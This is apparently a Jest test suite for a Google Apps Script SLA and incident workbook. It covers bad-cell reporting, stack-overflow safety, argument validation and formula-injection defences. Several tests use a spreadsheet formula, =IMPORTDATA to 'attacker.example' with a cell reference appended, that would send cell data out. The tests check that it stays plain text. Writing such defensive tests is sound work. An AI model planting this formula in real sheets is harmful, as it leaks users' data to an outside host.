/**
 * Issue 9, items 1, 2 and 4: a single bad cell (an impossible year, a misspelt time zone) or a flood of
 * them is reported by tab, row and column and breaks no action, on the built bundle.
 */
import type { OfflineRuntime } from '../../offline/runtime';
import { runEveryAction, tabValues } from '../support/everyAction';
import { exampleRuntime, NOW, workbookState } from '../support/offline';
import { thrownMessage } from '../support/thrown';

type Ss = GoogleAppsScript.Spreadsheet.Spreadsheet;
type Problem = { tab: string; row: number; column: string; value: string; message: string };

function school(): OfflineRuntime {
  const rt = exampleRuntime();
  rt.run(`Date.now = () => ${NOW};`);
  return rt;
}

/** Sets one cell of a tab, found by its header, to `value` (a context Date when given as `new Date(...)` code). */
function setCell(rt: OfflineRuntime, tab: string, row: number, header: string, value: unknown): void {
  const sheet = (rt.spreadsheet as unknown as Ss).getSheetByName(tab)!;
  const col = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0].indexOf(header) + 1;
  expect(col).toBeGreaterThan(0);
  sheet.getRange(row, col).setValue(typeof value === 'string' && value.startsWith('new Date') ? rt.run(value) : value);
}

const failures = (rt: OfflineRuntime) =>
  runEveryAction(rt)
    .filter((o) => o.error !== undefined)
    .map((o) => `${o.action}: ${o.error}`);

describe('item 1: a date outside the years 1800 to 2399 is a bad value like any other', () => {
  const cases: Array<[tab: string, header: string, value: string, shown: string]> = [
    ['Closures', 'From', 'new Date(20226, 8, 1)', '20226-09-01'],
    ['Closures', 'From', '1000-01-01', '1000-01-01'],
    ['SLA', 'Next review', 'new Date(1066, 9, 14, 12)', '1066-10-14'],
    ['Incidents', 'Resolved', 'new Date(3000, 0, 1, 12)', '3000-01-01'],
    ['Incidents', 'Opened', '1000-01-01 09:00', '1000-01-01 09:00'],
  ];
  test.each(cases)('%s "%s" = %s: located in Check workbook, quoted as typed, and no action fails', (tab, header, value, shown) => {
    const rt = school();
    setCell(rt, tab, 2, header, value);
    const problems = (rt.global.checkWorkbook() as Problem[]).filter((p) => p.tab === tab && p.row === 2 && p.column === header);
    expect(problems).toHaveLength(1);
    expect(problems[0].value.startsWith(shown)).toBe(true);
    expect(problems[0].message).toMatch(/expected a date in the years 1800 to 2399/);
    // Custom functions given a bad date as an argument still say which argument; nothing else may fail.
    expect(failures(rt).filter((f) => !/^SLM_(WORKHOURS|DUE): (start|end), row 1: .* is outside the years 1800 to 2399$/.test(f))).toEqual([]);
  });
});

describe('item 2: no number of bad cells overflows the stack', () => {
  test('20,000 incident rows with US-style text dates: every action answers, each row named', () => {
    const rt = school();
    const v = tabValues(rt).incidents!;
    const opened = v[0].indexOf('Opened');
    const rows = Array.from({ length: 20_000 }, (_, k) => {
      const r = [...v[1 + (k % (v.length - 1))]];
      r[0] = `US${k}`;
      r[opened] = '11/30/2026 14:05';
      return r;
    });
    const sheet = (rt.spreadsheet as unknown as Ss).getSheetByName('Incidents')!;
    sheet.insertRowsAfter(sheet.getMaxRows(), rows.length);
    sheet.getRange(v.length + 1, 1, rows.length, v[0].length).setValues(rows);
    // Item 8: the answer lists 500 problems and counts the rest, so it stays small.
    const listed = rt.global.checkWorkbook() as Problem[];
    expect(listed.filter((p) => p.column === 'Opened' && p.value === '11/30/2026 14:05').length).toBeGreaterThan(400);
    expect(listed.length).toBe(501);
    expect(listed[500].message).toMatch(/^\d+ more problems are not listed here/);
    expect(JSON.stringify(listed).length).toBeLessThan(300_000);
    for (const run of [() => rt.global.getOverview({ kind: 'thisTerm' }), () => rt.global.menuCheckContracts(), () => rt.global.generateSla(null)]) {
      expect(run).not.toThrow();
    }
  });

  test('130,000 duplicate Refs: SLM_FINDINGS answers', () => {
    const rt = school();
    const v = tabValues(rt);
    const log = v.incidents!;
    const rows = [log[0], ...Array.from({ length: 130_000 }, (_, k) => log[1 + (k % 3)].map((c, i) => (i === 0 ? 'DUP' : c)))];
    const table = rt.global.SLM_FINDINGS(v.services, v.contracts, rows) as string[][];
    expect(table[0][0]).toBe('Severity');
  });

  test('the built bundle spreads no array into push, unshift, Math.min or Math.max', () => {
    // Each spread item is an argument: a long enough list overflows the stack, as 125,000 problems did.
    const code = require('node:fs').readFileSync(`${__dirname}/../../dist/Code.js`, 'utf8') as string;
    const spreads = [...code.matchAll(/\b(push|unshift|min|max)\(([^(){}]*,)?\.\.\.(.{0,24})/g)];
    // zod/mini (the panel's argument checks) spreads only the issues of one element or property of one
    // argument into its parent's, and the few checks of one schema into Math.min: a handful each, never a log.
    const zod = (m: RegExpMatchArray) => /\.issues\)|\.map\(\w+=>\w+\[0\]\)/.test(m[3]);
    expect(spreads.filter((m) => !zod(m)).map((m) => m[0])).toEqual([]);
    // Only zod's few are left out: the project's own code holds none.
    expect(spreads.filter(zod).length).toBeLessThanOrEqual(8);
  });
});

describe('item 4: a misspelt Calendars time zone is located, never thrown', () => {
  test('Check workbook names the cell and every service using the calendar; every action answers', () => {
    const rt = school();
    const calendars = tabValues(rt).calendars!;
    const name = String(calendars[1][calendars[0].indexOf('Calendar')]);
    setCell(rt, 'Calendars', 2, 'Time zone', 'Europe/Londn');
    const problems = rt.global.checkWorkbook() as Problem[];
    expect(problems).toContainEqual(expect.objectContaining({ tab: 'Calendars', row: 2, column: 'Time zone', value: 'Europe/Londn' }));
    const services = tabValues(rt).services!;
    const usesIt = services
      .slice(1)
      .map((r, i) => [i + 2, r] as const)
      .filter(([, r]) => r.some((c) => String(c).toLowerCase() === name.toLowerCase()));
    expect(usesIt.length).toBeGreaterThan(0);
    for (const [row] of usesIt) {
      expect(problems.some((p) => p.tab === 'Services' && p.row === row && /unknown time zone "Europe\/Londn"/.test(p.message))).toBe(true);
    }
    expect(failures(rt)).toEqual([]);
  });
});

describe('item 3: SLM_ATTAINMENT, SLM_AVAILABILITY and the sidebar leave out and name the same Incidents rows', () => {
  const fc = require('fast-check') as typeof import('fast-check');
  /** Figures per service from SLM_ATTAINMENT and from the sidebar's overview, over the same days. */
  function both(rt: OfflineRuntime) {
    const v = tabValues(rt);
    const table = rt.global.SLM_ATTAINMENT(
      rt.run('new Date(2026, 8, 1)'),
      rt.run('new Date(2026, 10, 18)'),
      v.services,
      v.sla,
      v.targets,
      v.incidents,
      v.calendars,
      v.closures,
    ) as unknown[][];
    const overview = rt.global.getOverview({ kind: 'custom', start: '2026-09-01', end: '2026-11-19' });
    const head = table[0] as string[];
    const last = table[table.length - 1];
    const notRead = String(last[0]).startsWith('Not read') ? String(last[0]) : '';
    const rows = table.slice(1).filter((r) => !String(r[0]).startsWith('Not read'));
    const fromTable = rows.map((r) => [
      r[0],
      r[head.indexOf('Met')],
      r[head.indexOf('Breached')],
      r[head.indexOf('Pending')],
      r[head.findIndex((h) => /^Availability( to date)?$/.test(h))],
    ]);
    const fromSidebar = overview.services.map((s: { serviceId: string; met: number; breached: number; pending: number; availability: number | null }) => [
      s.serviceId,
      s.met,
      s.breached,
      s.pending,
      s.availability ?? '—',
    ]);
    return { fromTable, fromSidebar, notRead };
  }
  const leftOut = (rt: OfflineRuntime) =>
    (rt.global.checkWorkbook() as Problem[]).filter((p) => p.tab === 'Incidents' && /left out of the figures/.test(p.message));

  test.each([
    ['Opened', 'last Tuesday'],
    ['Opened', 'new Date(3000, 0, 1)'],
    ['Resolved', 'new Date(2025, 0, 1)'],
    ['Resolved', 'fixed'],
    ['On hold (h)', 'lots'],
    ['On hold (h)', -4],
    ['Service down', 'maybe'],
  ])('Incidents "%s" = %s: the row is named in the table\'s last line and left out of both', (header, value) => {
    const rt = school();
    setCell(rt, 'Incidents', 30, header, value);
    const { fromTable, fromSidebar, notRead } = both(rt);
    expect(notRead).toContain(`Incidents row 30 (${header})`);
    expect(fromTable).toEqual(fromSidebar);
    expect(leftOut(rt)).toEqual([expect.objectContaining({ row: 30, column: header })]);
    // The sidebar says so too.
    expect(rt.global.getOverview({ kind: 'thisTerm' }).leftOut).toBe(1);
  });

  test.each([
    ['Type', 'Fault'],
    ['Priority', 'Urgent'],
    ['Priority', 'P2'],
  ])('Incidents "%s" = %s: the row is named and counts for availability only, in both', (header, value) => {
    const rt = school();
    setCell(rt, 'Incidents', 30, header, value);
    const { fromTable, fromSidebar, notRead } = both(rt);
    expect(notRead).toContain(`Incidents row 30 (${header})`);
    expect(fromTable).toEqual(fromSidebar);
    expect(leftOut(rt)).toEqual([]);
    expect((rt.global.checkWorkbook() as Problem[]).filter((p) => p.tab === 'Incidents' && p.row === 30)).toEqual([
      expect.objectContaining({ column: header, message: expect.stringMatching(/counts only for availability/) }),
    ]);
    expect(rt.global.getOverview({ kind: 'thisTerm' }).leftOut).toBe(0);
  });

  test('SLM_AVAILABILITY leaves out the row SLM_ATTAINMENT leaves out: an unreadable Resolved no longer runs an outage on', () => {
    const rt = school();
    const v = tabValues(rt).incidents!;
    // An Internet outage inside the window measured below (1 September to 18 November 2026).
    const down = v.findIndex(
      (r, i) =>
        i > 0 &&
        r[v[0].indexOf('Service down')] === 'Yes' &&
        r[v[0].indexOf('Service ID')] === 'INTERNET' &&
        +(r[v[0].indexOf('Opened')] as Date) >= +(rt.run('new Date(2026, 8, 1)') as Date) &&
        +(r[v[0].indexOf('Opened')] as Date) < +(rt.run('new Date(2026, 10, 17)') as Date),
    );
    expect(down).toBeGreaterThan(0);
    const args = () => [rt.run('new Date(2026, 8, 1)'), rt.run('new Date(2026, 10, 18)'), tabValues(rt).incidents, 'Mon-Fri 08:00-18:00'];
    const before = rt.global.SLM_AVAILABILITY('INTERNET', ...args()) as number;
    setCell(rt, 'Incidents', down + 1, 'Resolved', 'fixed');
    setCell(rt, 'Incidents', down + 1, 'Outage end', '');
    const [[after], [note]] = rt.global.SLM_AVAILABILITY('INTERNET', ...args()) as unknown[][];
    expect(after).toBeGreaterThan(before);
    expect(note).toBe(`Not read, so left out or read as blank: Incidents row ${down + 1} (Resolved). Run "Check workbook".`);
    expect(leftOut(rt).map((p) => p.row)).toEqual([down + 1]);
  });

  test('random bad values in random Incidents cells: both name exactly the cells Check workbook names, with the same figures', () => {
    const rt0 = school();
    const log = tabValues(rt0).incidents!;
    const headers = log[0] as string[];
    const junk = fc.constantFrom<unknown>(
      '',
      'fixed',
      'lots',
      -1,
      'maybe',
      'Urgent',
      '11/30/2026 14:05',
      '1000-01-01',
      'new Date(2999, 0, 1)',
      'new Date(2025, 0, 1)',
      true,
      '=1+1',
    );
    const change = fc.record({ row: fc.integer({ min: 2, max: log.length }), header: fc.constantFrom(...headers.filter((h) => h !== 'Summary')), value: junk });
    fc.assert(
      fc.property(fc.array(change, { minLength: 1, maxLength: 4 }), (changes) => {
        const rt = school();
        for (const c of changes) setCell(rt, 'Incidents', c.row, c.header, c.value);
        const { fromTable, fromSidebar, notRead } = both(rt);
        expect(fromTable).toEqual(fromSidebar);
        const named = [...notRead.matchAll(/Incidents row (\d+) \(((?:[^()]|\([^()]*\))+)\)/g)].map((m) => `${m[1]}|${m[2]}`).sort();
        const checked = (rt.global.checkWorkbook() as Problem[]).filter(
          (p) => p.tab === 'Incidents' && /left out of the figures|counts only for availability/.test(p.message),
        );
        expect(
          named
            .filter((n) => !checked.some((p) => `${p.row}|${p.column}` === n))
            // Check workbook leaves a row with an unreadable Priority out before checking its times; the figures check them.
            .filter((n) => !checked.some((p) => n.startsWith(`${p.row}|`) && /counts only for availability/.test(p.message))),
        ).toEqual([]);
        expect(checked.map((p) => `${p.row}|${p.column}`).filter((n) => !named.includes(n))).toEqual([]);
      }),
      { numRuns: 12, seed: 9 },
    );
  });
});

describe('item 5: user text reaches cells as text, never as a formula', () => {
  test("formula-looking text imported into the log stays text, even with the cells' text format reset", () => {
    const rt = school();
    const log = (rt.spreadsheet as unknown as Ss).getSheetByName('Incidents')!;
    // A format reset (or rows past the ones setup formatted): only the writer keeps the text a text.
    log.getRange(2, 1, log.getMaxRows() - 1, log.getMaxColumns()).setNumberFormat('General');
    const attack = '=IMPORTDATA("https://attacker.example/?"&A1)';
    const csv = require('node:fs').readFileSync(`${__dirname}/../import/samples/osticket.csv`, 'utf8') as string;
    const text = csv
      .replace('Staffroom printer jams on every job', `"${attack.replace(/"/g, '""')}"`)
      .replace('Cannot send email with attachments, says ""quota""', '+44 7700 900123 @ reception');
    expect(text).toContain('attacker.example');
    rt.global.importIncidents(text, null);
    const values = log.getDataRange();
    expect(
      values
        .getFormulas()
        .flat()
        .filter((f: string) => f !== ''),
    ).toEqual([]);
    const summaries = values.getValues().map((r: unknown[]) => r[values.getValues()[0].indexOf('Summary')]);
    expect(summaries).toContain(attack);
    expect(summaries).toContain('+44 7700 900123 @ reception');
  });
});

describe('item 5: one text-safe writer', () => {
  const attack = '=IMPORTDATA("https://attacker.example/?"&A1)';

  test('the runtime reads text written into a cell that is not plain text as Sheets does: "=…" becomes a live formula', () => {
    // Range.setValue: "If it begins with '=' it is interpreted as a formula" (offline/README.md, rule 9).
    const rt = school();
    const sheet = (rt.spreadsheet as unknown as Ss).insertSheet('Scratch');
    sheet.getRange(1, 1).setValues([[attack]]);
    expect(sheet.getRange(1, 1).getFormula()).toBe(attack);
    sheet.getRange(2, 1).setNumberFormat('@').setValue(attack);
    expect(sheet.getRange(2, 1).getFormula()).toBe('');
  });

  test('formula-looking user text reaches the Documents tab as text at row 1,500 and after a format reset, and recalculation leaves it text', () => {
    const { recalculateRuntime } = require('../../offline/recalcRuntime') as typeof import('../../offline/recalcRuntime');
    const rt = school();
    const ss = rt.spreadsheet as unknown as Ss;
    // A Service ID and an SLA Version as a hostile user types them (the cells are plain text, so they are text here).
    ss.getSheetByName('Services')!.getRange(2, 1).setValue(attack);
    ss.getSheetByName('SLA')!
      .getRange(2, 1, ss.getSheetByName('SLA')!.getLastRow() - 1, 1)
      .setValue(attack);
    setCell(rt, 'SLA', 2, 'Version', attack);
    const docs = ss.getSheetByName('Documents')!;
    const row = (r: number) => ({
      values: docs.getRange(r, 1, 1, docs.getLastColumn()).getValues()[0],
      formulas: docs.getRange(r, 1, 1, docs.getLastColumn()).getFormulas()[0],
    });
    const contents = docs.getRange(1, 1, 1, docs.getLastColumn()).getValues()[0].indexOf('Contents');
    // Inside the rows Set up formatted as plain text: the text exactly as typed (no apostrophe shows).
    rt.global.generateSla(null);
    expect(docs.getRange(docs.getLastRow(), contents + 1).getValue()).toMatch(/^=IMPORTDATA\(/);
    // Then rows up to 1,499 in use: the next document's row is 1,500, far past the rows Set up formatted.
    docs.insertRowsAfter(docs.getMaxRows(), 600);
    docs.getRange(docs.getLastRow() + 1, 1, 1499 - docs.getLastRow(), 1).setValue('Earlier document');
    rt.global.generateSla(null);
    expect(docs.getLastRow()).toBe(1500);
    expect(row(1500).formulas).toEqual(row(1500).formulas.map(() => ''));
    expect(String(row(1500).values[contents]).startsWith(attack)).toBe(true);

    // A format reset on the whole tab: the next row is text all the same.
    docs.getRange(1, 1, docs.getMaxRows(), docs.getMaxColumns()).setNumberFormat('General');
    rt.global.generateSla(null);
    expect(row(1501).formulas).toEqual(row(1501).formulas.map(() => ''));
    expect(String(row(1501).values[contents]).startsWith(attack)).toBe(true);

    // Sheets' recalculation finds no formula there: the cells keep their text.
    const problems = recalculateRuntime(rt, NOW);
    expect(problems.filter((p) => p.tab === 'Documents')).toEqual([]);
    expect(String(row(1500).values[contents]).startsWith(attack)).toBe(true);
    expect(
      docs
        .getDataRange()
        .getFormulas()
        .flat()
        .filter((f: string) => f !== ''),
    ).toEqual([]);
  });

  test("a call logged through the form lands as text at row 1,200 with the log's formats reset", () => {
    const rt = school();
    const ss = rt.spreadsheet as unknown as Ss;
    rt.global.createCallForm();
    const form = [...rt.services.FormApp.forms.values()][0];
    const log = ss.getSheetByName('Incidents')!;
    log.insertRowsAfter(log.getMaxRows(), 400);
    log.getRange(log.getLastRow() + 1, 1, 1199 - log.getLastRow(), 1).setValue('Not a call');
    log.getRange(2, 1, log.getMaxRows() - 1, log.getMaxColumns()).setNumberFormat('General');
    const response = form.createResponse();
    const answers: Record<string, string> = {
      'Which service is it about?': 'Printing',
      'What do you need?': 'Something is broken or not working',
      'How bad is it?': 'I cannot work',
      'What happened, or what do you need?': attack,
      'Your name': '+44 7700 900123',
    };
    for (const item of form.getItems()) if (answers[item.getTitle()] !== undefined) response.withItemResponse(item.createResponse(answers[item.getTitle()]));
    response.submit();
    const sheet = form.destination!;
    const range = sheet.getRange(sheet.getLastRow(), 1, 1, sheet.getLastColumn());
    rt.fireTrigger('onCallLogged', { range, values: range.getDisplayValues()[0], namedValues: {} });
    expect(log.getLastRow()).toBe(1200);
    const summary = log.getRange(1, 1, 1, log.getLastColumn()).getValues()[0].indexOf('Summary') + 1;
    expect(
      log
        .getRange(1200, 1, 1, log.getLastColumn())
        .getFormulas()[0]
        .filter((f: string) => f !== ''),
    ).toEqual([]);
    expect(String(log.getRange(1200, summary).getValue())).toBe(`${attack} (from +44 7700 900123, service.manager@school.example)`);
  });
});

describe('found by the fuzz test', () => {
  test("sharing records access on the sharer's own row when a People row above is left out", () => {
    const rt = school();
    const people = (rt.spreadsheet as unknown as Ss).getSheetByName('People')!;
    const values = people.getDataRange().getValues();
    const name = values[0].indexOf('Name');
    const access = values[0].indexOf('Access');
    const jo = values.findIndex((r) => r[name] === 'Jo Harris');
    // A role nobody has on the row above Jo's: the reading leaves that row out.
    expect(jo).toBeGreaterThan(1);
    people.getRange(jo, values[0].indexOf('Role') + 1).setValue('Wizard');
    rt.global.generateSla(null);
    const before = people
      .getDataRange()
      .getValues()
      .map((r) => r[access]);
    rt.global.applySharing([{ name: 'Jo Harris', documents: true, workbook: false }]);
    const after = people
      .getDataRange()
      .getValues()
      .map((r) => r[access]);
    expect(after[jo]).toMatch(/^SLA and review \(comment\), as of /);
    expect(after.filter((_, i) => i !== jo)).toEqual(before.filter((_, i) => i !== jo));
  });

  test('the SLA and the service review end by naming the cells they could not read', () => {
    const rt = school();
    setCell(rt, 'Incidents', 30, 'Opened', 'last Tuesday');
    setCell(rt, 'Services', 3, 'Priority rank', 'first');
    for (const doc of [rt.global.generateSla(null), rt.global.generateReview({ kind: 'thisTerm' })]) {
      const text = rt.services.DocumentApp.bodyOf(doc.id).getText() as string;
      expect(text).toContain('Cells not read from the workbook');
      expect(text).toMatch(/\d+ cells could not be read, so they were left out or read as blank: Services row 3 \(Priority rank\); /);
      expect(text).toContain('Incidents row 30 (Opened)');
    }
  });

  test('SLM_FINDINGS names the cells it could not read in its last line', () => {
    const rt = school();
    setCell(rt, 'Contracts', 2, 'Fix within (h)', 'lots');
    const v = tabValues(rt);
    const table = rt.global.SLM_FINDINGS(v.services, v.contracts, v.incidents, v.sla, v.targets, v.calendars, v.closures) as string[][];
    expect(table[table.length - 1][0]).toMatch(/^Not read, so left out or read as blank: Contracts row 2 \(Fix within \(h\)\)\./);
  });
});

describe('item 7: named ranges grow with the tabs', () => {
  test('the Dashboard counts incidents past row 1,000: every row the log holds, not the first 999', () => {
    const { exampleWithFormulas } = require('../support/formulas') as typeof import('../support/formulas');
    const { recalculateRuntime } = require('../../offline/recalcRuntime') as typeof import('../../offline/recalcRuntime');
    const { rt } = exampleWithFormulas();
    const ss = rt.spreadsheet as unknown as Ss;
    expect(ss.getRangeByName('SLM_Incidents')!.getA1Notation()).toMatch(/^A:[A-Z]+$/);
    const counted = () => {
      const shown = ss.getSheetByName('Dashboard')!.getDataRange().getValues();
      const head = shown.findIndex((r) => r[0] === 'Service ID');
      const h = shown[head] as string[];
      return shown
        .slice(head + 1)
        .filter((r) => r[0] !== '')
        .reduce((n, r) => n + Number(r[h.indexOf('Met')]) + Number(r[h.indexOf('Breached')]) + Number(r[h.indexOf('Pending')]), 0);
    };
    const before = counted();
    expect(before).toBeGreaterThan(0);
    const log = ss.getSheetByName('Incidents')!;
    const rows = log.getDataRange().getValues();
    const copies = Array.from({ length: 6 }, (_, k) => rows.slice(1).map((r) => [`${r[0]}-${k}`, ...r.slice(1)])).flat();
    log.insertRowsAfter(log.getMaxRows(), copies.length);
    log.getRange(rows.length + 1, 1, copies.length, rows[0].length).setValues(copies);
    expect(log.getLastRow()).toBeGreaterThan(1000);
    recalculateRuntime(rt, NOW);
    expect(counted()).toBe(7 * before);
  });
});

describe('item 9: server functions check their arguments where they arrive', () => {
  const message = thrownMessage;

  test('bad arguments from google.script.run get a message naming the argument', () => {
    const rt = school();
    expect(message(() => rt.global.generateSla('INTERNET'))).toMatch(/^serviceIds: expected a list of Service IDs such as \["EMAIL", "PRINT"\]/);
    expect(message(() => rt.global.generateReview(null))).toMatch(/^period: expected a period such as \{ kind: "thisTerm" \}/);
    expect(message(() => rt.global.getOverview({ kind: 'bogus' }))).toMatch(/^period: expected a period/);
    expect(message(() => rt.global.getOverview({ kind: 'custom', start: '2026-09-01' }))).toMatch(/^period: a custom period needs both start and end/);
    expect(message(() => rt.global.getFindings({ kind: 7 }))).toMatch(/^period: /);
    expect(message(() => rt.global.selectCell('Incidents', 'two', 'Opened'))).toMatch(/^row: expected a row number/);
    expect(message(() => rt.global.chooseDocumentsFolder({ id: 1 }))).toMatch(/^folderLinkOrId: expected text/);
    expect(message(() => rt.global.loadExampleSchool('soon'))).toMatch(/^now: expected a time/);
    // What the sidebar sends still works.
    expect(rt.global.getOverview({ kind: 'thisTerm' }).services.length).toBeGreaterThan(0);
    expect(rt.global.getOverview(null).period.kind).toBe('thisTerm');
  });

  test('the import, digest, sharing and form functions refuse null, wrong types, bogus kinds and huge strings by name', () => {
    const rt = school();
    const before = workbookState(rt);
    const huge = 'x'.repeat(2_000_000);
    const cases: Array<[() => unknown, RegExp]> = [
      [() => rt.global.previewImport(42, null), /^text: expected CSV text, or null/],
      [() => rt.global.previewImport('Ref\nA1', 'dmy'), /^options: expected the import choices the panel sends/],
      [() => rt.global.previewImport('Ref\nA1', { dateOrder: 'ymd' }), /^options: expected the import choices/],
      [() => rt.global.previewImport('Ref\nA1', { defaultType: 'Fault' }), /^options: expected the import choices/],
      [() => rt.global.previewImport('Ref\nA1', { columns: { ref: 7 } }), /^options: expected the import choices/],
      [() => rt.global.previewImport(null, { fileId: huge }), /^options: expected the import choices/],
      [() => rt.global.importIncidents(['Ref'], {}), /^text: expected CSV text/],
      [() => rt.global.importIncidents(null, { tab: ['Export'] }), /^options: expected the import choices/],
      [
        () => rt.global.importIncidents(`Ref,Summary\n${huge}${huge}${huge}${huge}${huge}${huge},x\n`, null),
        /^The file is 11\.4 MB; an import reads at most 10 MB/,
      ],
      [() => rt.global.importIncidents(null, null), /^Choose a CSV file, paste CSV text or name a tab to import/],
      [() => rt.global.setDigest('yes'), /^on: expected true or false/],
      [() => rt.global.setDigest(null), /^on: expected true or false/],
      [() => rt.global.previewDigest(20261118), /^nowIso: expected a time as ISO text/],
      [() => rt.global.previewDigest('next Tuesday'), /^nowIso: expected a time as ISO text/],
      [() => rt.global.previewDigest(huge), /^nowIso: expected a time as ISO text/],
      [() => rt.global.applySharing(null), /^choices: expected a list such as \[\{ name: "Jo Harris"/],
      [() => rt.global.applySharing({ name: 'Jo Harris' }), /^choices: expected a list/],
      [() => rt.global.applySharing([{ name: 'Jo Harris', documents: 'yes', workbook: false }]), /^choices: expected a list/],
      [() => rt.global.onCallLogged(null), /^e: expected the form-submit event/],
      [() => rt.global.onCallLogged({ range: 'A1' }), /^e: expected the form-submit event/],
      [() => rt.global.selectCell(huge, 2, 'Opened'), /^tab: expected text such as "Incidents"/],
    ];
    for (const [run, expected] of cases) expect(message(run)).toMatch(expected);
    // None of them wrote anything.
    expect(workbookState(rt)).toEqual(before);
    // What the panel sends still works.
    expect(rt.global.previewDigest(null) === null || typeof rt.global.previewDigest(null).subject === 'string').toBe(true);
    expect(
      rt.global.previewImport('Ref,Service ID,Priority,Summary,Opened\nX1,PRINT,High,Printer,2026-11-02 09:00', { dateOrder: 'dmy', columns: { ref: 'Ref' } })
        .changes,
    ).toBe(true);
    expect(rt.global.applySharing([]).shared).toEqual([]);
    expect(typeof rt.global.overviewOf).toBe('undefined');
  });

  test("Load example school from google.script.run asks before mixing example rows with the user's", () => {
    const rt = school();
    const before = workbookState(rt);
    rt.ui.respond('NO');
    expect(rt.global.loadExampleSchool()).toBe(0);
    expect(rt.ui.alerts[rt.ui.alerts.length - 1].prompt).toMatch(/already have rows/);
    expect(workbookState(rt)).toEqual(before);
    // Unanswered, the offline UI refuses, as a real call would wait for the user.
    expect(() => rt.global.loadExampleSchool()).toThrow(/needs a scripted response/);
    expect(workbookState(rt)).toEqual(before);
  });

  test("a Drive failure while choosing the document's name is a clear message, and nothing is created", () => {
    const rt = school();
    const drive = rt.services.DriveApp as unknown as Record<string, unknown>;
    const fail = () => {
      throw new Error('Service error: Drive');
    };
    drive.getFileById = fail;
    drive.getRootFolder = () => ({ getFilesByName: fail });
    const docs = () => [...rt.services.DriveApp.store.items.values()].filter((i) => i.mimeType === 'application/vnd.google-apps.document').length;
    const count = docs();
    expect(message(() => rt.global.generateSla(null))).toMatch(
      /^The SLA could not be named: Google Drive did not answer \(Service error: Drive\)\. Nothing was created/,
    );
    expect(docs()).toBe(count);
  });
});

describe('item 8: long values and long lists are cut to a readable size', () => {
  test('198 rows of 50,000-character junk: Check workbook answers in kilobytes, quoting each value cut short', () => {
    const rt = school();
    const sheet = (rt.spreadsheet as unknown as Ss).getSheetByName('Incidents')!;
    const width = sheet.getLastColumn();
    const junk = 'x'.repeat(50_000);
    sheet.getRange(2, 1, 198, width).setValues(Array.from({ length: 198 }, () => Array.from({ length: width }, () => junk)));
    const listed = rt.global.checkWorkbook() as Problem[];
    expect(JSON.stringify(listed).length).toBeLessThan(400_000);
    expect(Math.max(...listed.map((p) => p.value.length))).toBeLessThanOrEqual(80);
    rt.global.menuCheckWorkbook();
    expect(rt.ui.shown[rt.ui.shown.length - 1].output.getContent().length).toBeLessThan(400_000);
  });
});
